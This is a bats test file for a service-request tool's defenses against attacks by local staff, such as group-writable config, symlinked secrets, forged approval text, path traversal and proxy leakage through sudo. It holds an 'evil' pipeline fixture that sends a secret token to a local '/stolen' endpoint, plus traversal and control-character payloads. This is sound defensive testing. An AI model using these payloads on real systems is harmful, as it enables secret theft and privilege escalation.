#!/usr/bin/env bats
# What somebody of the staff could try against a service account and the others, each as it was done once.
#
# shellcheck disable=SC2154 # account, alice, bob, staff and place are set by service.bash

load helper
load calls
load service

setup_file() {
	export KEPT=$BATS_FILE_TMPDIR/kept
	mkdir "$KEPT"
	start_server bad bad-server.py --keep "$KEPT" || return
	BAD=http://127.0.0.1:$(server_port bad)
	export BAD
	make_people
}

teardown_file() {
	stop_bad_server
	remove_people
}

setup() {
	set_up_service
	rm -rf "${KEPT:?}"/*
	of_account state/secrets/TOKEN 600 <<<s3cr3t-T0ken-abcdef
	chown "$account" state/secrets && chmod 700 state/secrets
	of_account state/config.yaml 600 <<<"admins: [$account]"
	of_account pipelines/order.yaml 600 <<-EOF
		steps:
		  - step_name: Approval
		    step_type: WAIT_FOR_APPROVAL
		    parameters: {approvers: [$alice, $bob], approvals_required: 2, instructions: "Is there money for \${host}?"}
		  - step_name: Order
		    step_type: API
		    parameters:
		      {method: POST, url: "$BAD/order/\${host}", headers: {Authorization: "Bearer \${secret:TOKEN}"}, data: {host: "\${host}"}}
	EOF
	of_account pipelines/direct.yaml 600 <<-EOF
		steps:
		  - step_name: Order
		    step_type: API
		    parameters:
		      {method: POST, url: "$BAD/direct", headers: {Authorization: "Bearer \${secret:TOKEN}"}, data: {host: "\${host}"}}
	EOF
	cat >"$place/evil" <<-EOF
		steps: [{step_name: S, step_type: API, parameters: {method: POST, url: "$BAD/stolen", data: {t: "\${secret:TOKEN}"}}}]
	EOF
	chmod 644 "$place/evil"
}

teardown() { remove_service; }

# direct <name>: a request that anybody may make.
direct() { request "$1" create direct -f host=a; }

# nothing_stolen [<text>]: no server was told it.
nothing_stolen() {
	! grep -rq -e "${1-s3cr3t}" --include='[0-9]*' -l "$KEPT" || fail "$(grep -r "${1-s3cr3t}" "$KEPT")"
}

@test "nobody breaks the requests of others with folders that init makes for them" {
	local where

	direct "$alice"
	for where in state/requests/4611686018427387903 state/requests/2 state/config.yaml pipelines/order.json; do
		rm -f state/config.yaml
		unchanged request "$bob" init "$PWD/$where"
		assert_status 9
		[[ ! -e $where ]] || fail "init made '$where'"
	done
	try direct "$alice"
	assert_status 0
	try request "$alice" create order -f host=a
	assert_status 0
	try as "$account" svcreq -C "$PWD" run --pending
	assert_status 0
}

@test "nobody puts a pipeline there by a group that may write to pipelines/" {
	chgrp "$staff" pipelines && chmod 2775 pipelines
	as "$bob" cp "$place/evil" pipelines/evil.yaml
	try request "$bob" create evil --run
	assert_status 1
	assert_stderr_has "'pipelines' can be written by the group '$staff': chmod g-w $PWD/pipelines"
	nothing_stolen
}

@test "nobody becomes an admin by a group, or by all, that may write to config.yaml" {
	local mode

	for mode in 664 666; do
		chmod 755 state
		chgrp "$staff" state/config.yaml && chmod $mode state/config.yaml
		as "$bob" sh -c "echo 'admins: [$bob]' >state/config.yaml"
		try request "$bob" run --pending
		assert_status 1
		assert_stderr_has "'state/config.yaml' can be written by "
	done
}

@test "a member of a shared workspace gets no file of the others through a link" {
	install -d -o "$alice" -g "$staff" -m 2770 "$place/team"
	install -d -o "$alice" -m 700 "$place/home"
	install -o "$alice" -m 600 /dev/stdin "$place/home/key" <<<private-key-of-the-owner
	as "$alice" svcreq init --shared=group "$place/team"
	as "$bob" sh -c "umask 007; mkdir '$place/team/state/secrets' && ln -s '$place/home/key' '$place/team/state/secrets/TOKEN' &&
	    cp '$place/evil' '$place/team/pipelines/evil.yaml'"
	try as "$bob" svcreq -C "$place/team" create evil
	assert_status 0
	try as "$alice" svcreq -C "$place/team" run --pending
	assert_status 4
	assert_stderr_has "'state/secrets' belongs to '$bob', not to '$alice' or root"
	nothing_stolen private-key
	# nor when the folder is the owner's
	chown "$alice" "$place/team/state/secrets"
	as "$alice" svcreq -C "$place/team" create evil
	try as "$alice" svcreq -C "$place/team" run --pending
	assert_stderr_has "'state/secrets/TOKEN' is a symbolic link, not a regular file"
	nothing_stolen private-key
}

@test "somebody else's workspace above a folder of root's is not used" {
	mkdir -m 1777 "$place/scratch"
	mkdir "$place/scratch/project"
	as "$bob" sh -c "svcreq init '$place/scratch/.w' && cd '$place/scratch/.w' && echo 'admins: [root]' >state/config.yaml &&
	    cp '$place/evil' pipelines/evil.yaml && svcreq create evil && mv state pipelines executor_logs .."
	cd "$place/scratch/project"
	SVCREQ_SECRET_TOKEN=token-of-root try svcreq run --pending
	assert_status 1
	assert_stderr_has "'$bob'"
	nothing_stolen token-of-root
}

@test "an approver is shown no vote that nobody gave" {
	local text

	for text in $'w?\napproved by '"$alice"', 1m ago: fine' $'w?\r\n  approved by '"$alice"', 1m ago' \
	    $'w?\xe2\x80\xa8approved by '"$alice" $'w?\x1b[2Eapproved by '"$alice" $'w?\xc2\x85approved by '"$alice"; do
		try request "$bob" create order --run -f host="$text"
	done
	for id in state/requests/*/; do
		id=$(basename "$id")
		[[ $id != \* ]] || continue
		try request "$alice" status "$id"
		! grep -E "^[[:space:]]*approved by $alice" <<<"$output" || fail "$output"
	done
}

@test "masking a long value that repeats itself takes time for its length, not for its square" {
	local id bytes

	of_account pipelines/k.yaml 600 <<-EOF
		steps: [{step_name: S, step_type: API, parameters: {method: POST, url: "$BAD/k", headers: {X-Api-Key: "\${host}"}, data: {h: "\${host}", n: "\${note}"}}}]
	EOF
	for bytes in 10 40000; do
		jq -nc --argjson n $bytes '{host: ("a" * $n), note: "\""}' >../form
		id=$(request "$bob" create k --form-data - <../form)
		# its own time: in seconds, and as root, so that sudo's does not count
		try bash -c "TIMEFORMAT=%U; { time timeout 100 svcreq -C $PWD run $id >/dev/null 2>&1; } 2>&1"
		request_is "$id" Completed
		awk "BEGIN { exit !($output < 5) }" || fail "$bytes bytes: $output s"
	done
}

@test "a proxy that sudo lets through is not used" {
	sudo_rules 'Defaults env_keep += "http_proxy https_proxy all_proxy no_proxy CREDENTIALS_DIRECTORY SVCREQ_SECRET_TOKEN SSLKEYLOGFILE"'
	mkdir -m 755 "$place/credentials"
	echo credential-of-bob >"$place/credentials/TOKEN"
	chmod 644 "$place/credentials/TOKEN"
	mkdir -m 1777 "$place/keys"
	try as "$bob" env http_proxy=http://127.0.0.1:1 all_proxy=http://127.0.0.1:1 CREDENTIALS_DIRECTORY="$place/credentials" \
	    SVCREQ_SECRET_TOKEN=secret-of-bob SSLKEYLOGFILE="$place/keys/log" \
	    sudo -n -u "$account" "$place/request" create direct -f host=a --run
	assert_status 0
	request_is 1 Completed
	grep -rq "Bearer s3cr3t-T0ken-abcdef" "$KEPT"
	[[ ! -e $place/keys/log ]]
}

@test "no control or invisible character leaves raw, in text or JSON" {
	request "$bob" create direct -f host=$'a\xc2\x9b31m\xe2\x80\xae\xe2\x80\x8bb\x7f' || request "$bob" create direct -f host=$'a\xe2\x80\xae\xe2\x80\x8bb'
	for arguments in "status 1" "status 1 --json" "log 1 --events" "log 1 --events --json"; do
		# shellcheck disable=SC2086 # words
		try request "$alice" $arguments
		assert_status 0
		! LC_ALL=C grep -q -e $'\xc2\x9b' -e $'\xe2\x80\xae' -e $'\xe2\x80\x8b' -e $'\x7f' <<<"$output" || fail "$output"
	done
}

@test "a FIFO at last-id makes nobody wait" {
	direct "$bob"
	rm -f state/last-id
	as "$account" mkfifo "$PWD/state/last-id"
	try timeout 20 sudo -n -u "$account" "$place/request" create direct -f host=a
	assert_status 0
	assert_stdout_is 2
}

@test "what was filled in stays within its path segment, also behind a server that decodes it" {
	local value id

	for value in ../admin/all ..%2fadmin ..%252fadmin '..;/admin' 'a\..\admin' .. %2e%2e/admin; do
		try request "$bob" create order -f host="$value" --run
		[[ $status -eq 0 ]] || continue
		id=${output##*$'\n'}
		request "$alice" approve "$id" || :
		request "$bob" approve "$id" || :
	done
	! grep -aE "^POST /order/[^ ]*admin" "$KEPT"/[0-9]* || fail "it was sent"
}
